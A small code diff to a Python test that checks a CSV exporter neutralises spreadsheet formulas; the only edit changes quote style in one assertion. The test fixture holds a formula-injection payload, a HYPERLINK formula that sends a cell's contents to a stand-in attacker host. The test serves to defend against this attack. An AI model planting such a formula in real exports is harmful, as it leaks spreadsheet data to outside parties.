@@ -291,6 +291,6 @@ def test_csv_export_defuses_formulas_and_round_trips(session: Session) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     set_claim(session, officer, release.id, "CR 1.1", ClaimInput("implemented", notes=formula))
     text = rows_to_csv(list_claims(session, officer, release.id))
-    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and '"=HYPERLINK' not in text
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
     rows = parse_sheet(text.encode(), "claims.csv")
     assert rows[0][2].notes == formula
